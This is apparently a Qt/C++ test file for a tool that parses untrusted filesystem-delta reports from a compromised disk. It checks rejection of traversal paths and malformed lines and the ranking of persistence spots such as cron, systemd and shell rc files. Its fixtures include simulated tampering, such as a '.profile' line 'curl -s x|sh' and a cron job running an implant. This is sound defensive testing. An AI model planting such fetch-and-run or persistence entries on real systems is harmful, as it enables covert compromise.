// The inspector's report is untrusted (it comes from a VM that read a compromised disk): a
// table of hostile and malformed inputs, the bounds, name sanitising, and the persistence
// spots listed first.
#include "deltareport.h"
#include "inspectorscripts.h"
#include "persistencespots.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <fcntl.h>
#include <sys/stat.h>

namespace {

const QByteArray Sha(64, 'a');

QByteArray report(const QList<QByteArray> &lines, bool withEnd = true)
{
    QByteArray out = "TESSERA-DELTA 1\n";
    for (const QByteArray &line : lines)
        out += line + '\n';
    if (withEnd)
        out += "END " + QByteArray::number(lines.size()) + '\n';
    return out;
}

bool writeFile(const QString &path, const QByteArray &content)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(content) == content.size();
}

struct stat statOf(const QString &path)
{
    struct stat st = {};
    ::lstat(QFile::encodeName(path).constData(), &st);
    return st;
}

/// What `touch -r reference path` does: @p path gets @p reference's access and modification times.
bool copyTimes(const QString &reference, const QString &path)
{
    const struct stat ref = statOf(reference);
    const struct timespec times[2] = {ref.st_atim, ref.st_mtim};
    return ::utimensat(AT_FDCWD, QFile::encodeName(path).constData(), times, AT_SYMLINK_NOFOLLOW) == 0;
}

/// Writes @p cleanContent to clean/@p rel and @p deltaContent (same size) to delta/@p rel so
/// that type, mode, owner, size, mtime and ctime (in seconds, as the inspector compares them)
/// are the same on both sides: what a root guest can do (touch -r, with the clock set back).
bool replaceKeepingAttributes(const QString &clean, const QString &delta, const QString &rel, const QByteArray &cleanContent,
                              const QByteArray &deltaContent)
{
    for (int attempt = 0; attempt < 20; ++attempt) {
        if (!writeFile(clean + rel, cleanContent) || !writeFile(delta + rel, deltaContent))
            return false;
        // Setting times changes ctime to now: both files, right after each other.
        if (!copyTimes(clean + rel, clean + rel) || !copyTimes(clean + rel, delta + rel))
            return false;
        const struct stat a = statOf(clean + rel), b = statOf(delta + rel);
        if (a.st_ctim.tv_sec == b.st_ctim.tv_sec && a.st_mtim.tv_sec == b.st_mtim.tv_sec && a.st_size == b.st_size
            && a.st_mode == b.st_mode)
            return true; // else a second boundary fell in between: again
    }
    return false;
}

/// Runs the inspector's comparison (the perl program the inspector VM runs) on two host folders.
DeltaReport compare(const QString &clean, const QString &delta, const QString &out, const QStringList &extra = {})
{
    QProcess perl;
    perl.start(QStringLiteral("perl"), QStringList{QStringLiteral("-e"), InspectorScripts::compareProgram(), clean, delta, out} + extra);
    if (!perl.waitForFinished(120000) || perl.exitCode() != 0) {
        qWarning() << "perl failed:" << perl.readAllStandardError();
        return {};
    }
    QFile file(out);
    return file.open(QIODevice::ReadOnly) ? DeltaReport::parse(file.readAll()) : DeltaReport();
}

} // namespace

class tst_DeltaReport : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void lines_data()
    {
        QTest::addColumn<QByteArray>("line");
        QTest::addColumn<bool>("accepted");
        QTest::addColumn<QString>("path");

        QTest::newRow("added file") << ("A f 0644 12 1700000000 " + Sha + " - /root/notes.txt") << true << "/root/notes.txt";
        QTest::newRow("removed dir") << QByteArray("R d 0755 4096 1 - - /etc/issue.d") << true << "/etc/issue.d";
        QTest::newRow("link with target") << QByteArray("A l 0777 9 1 - /tmp/x\\x20y /etc/evil") << true << "/etc/evil";
        QTest::newRow("escaped space") << QByteArray("A f 0644 1 1 - - /root/a\\x20b") << true << "/root/a b";
        QTest::newRow("utf-8 name") << QByteArray("A f 0644 1 1 - - /root/\\xc3\\xa4") << true << QString::fromUtf8("/root/ä");
        QTest::newRow("invalid utf-8 shown escaped") << QByteArray("A f 0644 1 1 - - /root/\\xff") << true << "/root/\\xff";
        QTest::newRow("newline in name shown escaped") << QByteArray("A f 0644 1 1 - - /root/a\\x0ab") << true << "/root/a\\x0ab";
        QTest::newRow("bidi override shown escaped") << QByteArray("A f 0644 1 1 - - /root/\\xe2\\x80\\xaetxt.sh") << true
                                                     << "/root/\\xe2\\x80\\xaetxt.sh";
        QTest::newRow("unknown change") << QByteArray("X f 0644 1 1 - - /a") << false << QString();
        QTest::newRow("unknown type") << QByteArray("A q 0644 1 1 - - /a") << false << QString();
        QTest::newRow("mode not octal") << QByteArray("A f 0999 1 1 - - /a") << false << QString();
        QTest::newRow("mode too large") << QByteArray("A f 77777 1 1 - - /a") << false << QString();
        QTest::newRow("negative size") << QByteArray("A f 0644 -1 1 - - /a") << false << QString();
        QTest::newRow("huge size") << QByteArray("A f 0644 99999999999999999999 1 - - /a") << false << QString();
        QTest::newRow("short sha") << QByteArray("A f 0644 1 1 abc - /a") << false << QString();
        QTest::newRow("sha not hex") << ("A f 0644 1 1 " + QByteArray(64, 'z') + " - /a") << false << QString();
        QTest::newRow("relative path") << QByteArray("A f 0644 1 1 - - root/a") << false << QString();
        QTest::newRow("dot-dot") << QByteArray("A f 0644 1 1 - - /root/../etc/shadow") << false << QString();
        QTest::newRow("escaped dot-dot") << QByteArray("A f 0644 1 1 - - /root/\\x2e\\x2e/x") << false << QString();
        QTest::newRow("empty component") << QByteArray("A f 0644 1 1 - - /root//a") << false << QString();
        QTest::newRow("escaped slash makes empty component") << QByteArray("A f 0644 1 1 - - /root\\x2f\\x2fa") << false << QString();
        QTest::newRow("nul byte") << QByteArray("A f 0644 1 1 - - /a\\x00b") << false << QString();
        QTest::newRow("bad escape") << QByteArray("A f 0644 1 1 - - /a\\xg1") << false << QString();
        QTest::newRow("truncated escape") << QByteArray("A f 0644 1 1 - - /a\\x4") << false << QString();
        QTest::newRow("raw tab") << QByteArray("A f 0644 1 1 - - /a\tb") << false << QString();
        QTest::newRow("raw high byte") << QByteArray("A f 0644 1 1 - - /a\xffz") << false << QString();
        QTest::newRow("too few fields") << QByteArray("A f 0644 1 1 - /a") << false << QString();
        QTest::newRow("too many fields") << QByteArray("A f 0644 1 1 - - /a /b") << false << QString();
        QTest::newRow("target on a file") << QByteArray("A f 0644 1 1 - /x /a") << false << QString();
        QTest::newRow("overlong line") << ("A f 0644 1 1 - - /" + QByteArray(DeltaReport::MaxLineBytes, 'a')) << false << QString();
        QTest::newRow("overlong path") << ("A f 0644 1 1 - - /" + QByteArray(DeltaReport::MaxPathBytes / 2 + 10, 'a') + "/"
                                            + QByteArray(DeltaReport::MaxPathBytes / 2, 'b')) << false << QString();
        QTest::newRow("empty line") << QByteArray("") << false << QString();
    }

    void lines()
    {
        QFETCH(QByteArray, line);
        QFETCH(bool, accepted);
        QFETCH(QString, path);
        const DeltaReport parsed = DeltaReport::parse(report({line}));
        QVERIFY(parsed.validHeader);
        QVERIFY(parsed.complete);
        QCOMPARE(parsed.entries.size(), accepted ? 1 : 0);
        QCOMPARE(parsed.rejectedLines, accepted ? 0 : 1);
        if (accepted) {
            QCOMPARE(parsed.entries.first().path, path);
            for (const QChar c : parsed.entries.first().path)
                QVERIFY2(c.isPrint(), qPrintable(parsed.entries.first().path));
        }
    }

    void wholeReport_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<bool>("header");
        QTest::addColumn<bool>("complete");
        QTest::addColumn<int>("entries");

        const QByteArray one = "A f 0644 1 1 - - /a";
        QTest::newRow("good") << report({one, "A f 0644 1 1 - - /b"}) << true << true << 2;
        QTest::newRow("no header") << QByteArray("A f 0644 1 1 - - /a\nEND 1\n") << false << false << 0;
        QTest::newRow("wrong version") << QByteArray("TESSERA-DELTA 2\nEND 0\n") << false << false << 0;
        QTest::newRow("no END") << report({one}, false) << true << false << 1;
        QTest::newRow("END count lies") << QByteArray("TESSERA-DELTA 1\n" + one + "\nEND 5\n") << true << false << 1;
        QTest::newRow("END not a number") << QByteArray("TESSERA-DELTA 1\n" + one + "\nEND x\n") << true << false << 1;
        QTest::newRow("lines after END") << QByteArray("TESSERA-DELTA 1\n" + one + "\nEND 1\nA f 0644 1 1 - - /b\n") << true << false << 1;
        QTest::newRow("same path twice") << report({one, one}) << true << true << 1;
        QTest::newRow("empty") << QByteArray() << false << false << 0;
        QTest::newRow("binary junk") << QByteArray("\x00\x01\x02\xff", 4) << false << false << 0;
    }

    void wholeReport()
    {
        QFETCH(QByteArray, text);
        QFETCH(bool, header);
        QFETCH(bool, complete);
        QFETCH(int, entries);
        const DeltaReport parsed = DeltaReport::parse(text);
        QCOMPARE(parsed.validHeader, header);
        QCOMPARE(parsed.complete, complete);
        QCOMPARE(parsed.entries.size(), entries);
    }

    void bounds()
    {
        // More entries than the bound: the rest are counted, the report marked truncated.
        QList<QByteArray> lines;
        for (int i = 0; i < DeltaReport::MaxEntries + 50; ++i)
            lines.append("A f 0644 1 1 - - /f" + QByteArray::number(i));
        const DeltaReport parsed = DeltaReport::parse(report(lines));
        QCOMPARE(parsed.entries.size(), DeltaReport::MaxEntries);
        QVERIFY(parsed.truncated);
        QCOMPARE(parsed.rejectedLines, 50);

        // More bytes than the bound: only MaxBytes are looked at.
        QByteArray huge = "TESSERA-DELTA 1\n";
        while (huge.size() <= DeltaReport::MaxBytes)
            huge += "A f 0644 1 1 - - /" + QByteArray(4000, 'x') + '\n';
        const DeltaReport cut = DeltaReport::parse(huge);
        QVERIFY(cut.truncated);
        QVERIFY(!cut.complete);

        // The inspector's own truncation note.
        QVERIFY(DeltaReport::parse("TESSERA-DELTA 1\nA f 0644 1 1 - - /a\nTRUNCATED\nEND 1\n").truncated);
    }

    void persistenceFirst()
    {
        const DeltaReport parsed = DeltaReport::parse(report({
            "A f 0644 5 1 - - /root/notes.txt",
            "M f 0644 5 1 " + Sha + " - /root/.bashrc",
            "A f 0644 5 1 - - /etc/xdg/autostart/evil.desktop",
            "R f 0644 5 1 - - /etc/issue.net",
            "A l 0777 5 1 - /lib/systemd/system/x.service /etc/systemd/system/multi-user.target.wants/x.service",
        }));
        QCOMPARE(parsed.entries.size(), 5);
        QCOMPARE(parsed.persistenceCount(), 3);
        QCOMPARE(parsed.entries[0].path, QStringLiteral("/etc/systemd/system/multi-user.target.wants/x.service"));
        QCOMPARE(parsed.entries[1].path, QStringLiteral("/etc/xdg/autostart/evil.desktop"));
        QCOMPARE(parsed.entries[1].persistence, QStringLiteral("autostart"));
        QCOMPARE(parsed.entries[2].path, QStringLiteral("/root/.bashrc"));
        QCOMPARE(parsed.entries[2].persistence, QStringLiteral("shell-rc"));
        QCOMPARE(parsed.entries[2].change, DeltaEntry::Change::Modified);
        QCOMPARE(parsed.entries[2].sha256, QString::fromLatin1(Sha));
        QCOMPARE(parsed.entries[3].path, QStringLiteral("/etc/issue.net"));
        QVERIFY(!parsed.entries[4].isPersistence());
    }

    void persistenceEntriesSurviveTheCap()
    {
        // A flood of other changes before them in the report does not push persistence entries
        // past the entry cap: they are kept, and listed first.
        QList<QByteArray> lines;
        for (int i = 0; i < DeltaReport::MaxEntries + 50; ++i)
            lines.append("A f 0644 1 1 - - /aaa/junk" + QByteArray::number(i));
        lines.append("M f 0644 5 1 " + Sha + " - /etc/cron.d/job");
        lines.append("A f 0644 5 1 - - /etc/profile.d/evil.sh");
        lines.append("A f 0644 5 1 - - /root/.config/autostart/x.desktop");
        const DeltaReport parsed = DeltaReport::parse(report(lines));
        QCOMPARE(parsed.entries.size(), DeltaReport::MaxEntries);
        QVERIFY(parsed.truncated);
        QCOMPARE(parsed.persistenceCount(), 3);
        QCOMPARE(parsed.entries[0].path, QStringLiteral("/etc/cron.d/job"));
        QCOMPARE(parsed.entries[1].path, QStringLiteral("/etc/profile.d/evil.sh"));
        QCOMPARE(parsed.entries[2].path, QStringLiteral("/root/.config/autostart/x.desktop"));
        QCOMPARE(parsed.rejectedLines, 53);
    }

    void persistenceFilesAreAlwaysHashed()
    {
        // The inspector's comparison on two host folders: a root guest replaced files keeping
        // size, permissions, owner, mtime and ctime.
        QTemporaryDir dir;
        const QString clean = dir.filePath(QStringLiteral("clean"));
        const QString delta = dir.filePath(QStringLiteral("delta"));
        QVERIFY(replaceKeepingAttributes(clean, delta, QStringLiteral("/etc/cron.d/backup"), "0 3 * * * root /usr/bin/backup\n",
                                         "* * * * * root /tmp/.x/implant\n"));
        QVERIFY(replaceKeepingAttributes(clean, delta, QStringLiteral("/root/.profile"), "# ~/.profile\nmesg n\n",
                                         "curl -s x|sh\nmesg n\n"));
        QVERIFY(replaceKeepingAttributes(clean, delta, QStringLiteral("/etc/profile.d/same.sh"), "umask 022\n", "umask 022\n"));
        // Outside the spots, identical attributes still mean unchanged (not hashed: the cost of
        // hashing every file of the system).
        QVERIFY(replaceKeepingAttributes(clean, delta, QStringLiteral("/usr/share/doc/readme"), "aaaa\n", "bbbb\n"));
        // A file in a spot too large to hash is listed, its hash unknown.
        for (const QString &root : {clean, delta}) {
            QVERIFY(writeFile(root + QStringLiteral("/etc/cron.daily/big"), QByteArray()));
            QFile big(root + QStringLiteral("/etc/cron.daily/big"));
            QVERIFY(big.resize(300LL * 1024 * 1024)); // sparse
        }
        QVERIFY(copyTimes(clean + QStringLiteral("/etc/cron.daily/big"), delta + QStringLiteral("/etc/cron.daily/big")));

        const DeltaReport report = compare(clean, delta, dir.filePath(QStringLiteral("report.txt")));
        QVERIFY(report.complete);
        QCOMPARE(report.rejectedLines, 0);
        QStringList seen;
        for (const DeltaEntry &entry : report.entries)
            seen << QStringLiteral("%1 %2 %3").arg(int(entry.change)).arg(entry.persistence, entry.path);
        const QStringList expected{QStringLiteral("2 cron /etc/cron.d/backup"), QStringLiteral("2 cron /etc/cron.daily/big"),
                                   QStringLiteral("2 shell-rc /root/.profile")};
        QCOMPARE(seen, expected);
        QCOMPARE(report.find(QStringLiteral("/etc/cron.d/backup"))->sha256.size(), 64);
        QVERIFY(report.find(QStringLiteral("/etc/cron.daily/big"))->sha256.isEmpty());
    }

    void theInspectorListsPersistenceFirstBeforeItsCap()
    {
        QTemporaryDir dir;
        const QString clean = dir.filePath(QStringLiteral("clean"));
        const QString delta = dir.filePath(QStringLiteral("delta"));
        QVERIFY(QDir().mkpath(clean));
        for (int i = 0; i < 30; ++i)
            QVERIFY(writeFile(delta + QStringLiteral("/aaa/junk%1").arg(i), "x"));
        QVERIFY(writeFile(delta + QStringLiteral("/var/spool/cron/crontabs/root"), "* * * * * /tmp/x\n"));
        const DeltaReport report = compare(clean, delta, dir.filePath(QStringLiteral("report.txt")), {QStringLiteral("5")});
        QVERIFY(report.complete);
        QVERIFY(report.truncated);
        QCOMPARE(report.entries.size(), 5);
        QCOMPARE(report.entries.first().path, QStringLiteral("/var/spool/cron"));
        QCOMPARE(report.persistenceCount(), 3); // the folders in the spot count too
        QVERIFY(report.find(QStringLiteral("/var/spool/cron/crontabs/root")));
    }

    void spots_data()
    {
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("category");
        QTest::newRow("xdg autostart") << "/etc/xdg/autostart/a.desktop" << "autostart";
        QTest::newRow("user autostart") << "/home/ann/.config/autostart/a.desktop" << "autostart";
        QTest::newRow("root autostart") << "/root/.config/autostart/a.desktop" << "autostart";
        QTest::newRow("bashrc") << "/root/.bashrc" << "shell-rc";
        QTest::newRow("profile") << "/home/ann/.profile" << "shell-rc";
        QTest::newRow("profile.d") << "/etc/profile.d/x.sh" << "shell-rc";
        QTest::newRow("crontab") << "/etc/crontab" << "cron";
        QTest::newRow("cron.d") << "/etc/cron.d/job" << "cron";
        QTest::newRow("cron.hourly") << "/etc/cron.hourly/job" << "cron";
        QTest::newRow("spool") << "/var/spool/cron/crontabs/root" << "cron";
        QTest::newRow("etc systemd") << "/etc/systemd/system/x.service" << "systemd";
        QTest::newRow("lib systemd") << "/lib/systemd/system/x.service" << "systemd";
        QTest::newRow("usr lib systemd") << "/usr/lib/systemd/system/x.service" << "systemd";
        QTest::newRow("user systemd") << "/root/.config/systemd/user/x.service" << "systemd";
        QTest::newRow("rc.local") << "/etc/rc.local" << "rc-local";
        QTest::newRow("ld.so.preload") << "/etc/ld.so.preload" << "preload";
        QTest::newRow("plain file") << "/root/notes.txt" << "";
        QTest::newRow("lookalike") << "/etc/xdg/autostartx/a.desktop" << "";
        QTest::newRow("bashrc elsewhere") << "/tmp/.bashrc" << "";
        QTest::newRow("systemd binary") << "/lib/systemd/systemd-udevd" << "";
    }

    void spots()
    {
        QFETCH(QString, path);
        QFETCH(QString, category);
        QCOMPARE(PersistenceSpots::categoryOf(path), category);
        if (!category.isEmpty())
            QVERIFY(!PersistenceSpots::describe(category).isEmpty());
    }
};

QTEST_GUILESS_MAIN(tst_DeltaReport)
#include "tst_deltareport.moc"
